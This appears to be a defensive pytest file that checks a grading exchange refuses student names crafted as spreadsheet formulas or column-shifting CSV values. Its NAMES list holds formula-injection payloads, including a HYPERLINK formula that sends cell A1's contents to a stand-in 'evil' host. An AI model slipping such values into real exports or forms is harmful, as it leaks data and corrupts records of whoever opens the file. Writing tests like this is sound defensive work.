"""Hands in under a name that a spreadsheet takes for a formula, or that shifts its columns.

Why it might work: `nbgrader export` writes names as they are into grades.csv.
It must get: nothing; at every door such a name is refused in one sentence.
"""

import pytest
from support.exchange import EXERCISE

NAMES = ['=HYPERLINK("http:evil"&A1,"x")', "@SUM(A1)", "-1", "anna,100", 'anna"', "anna\t100"]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_no_formula_is_a_student(exchange, name):
    exchange.hand_in(name)
    exchange.upload(f"{name}_{EXERCISE}.zip")
    exchange.collect()
    exchange.zip_collect_in_part()
    assert len(exchange.students()) == 4
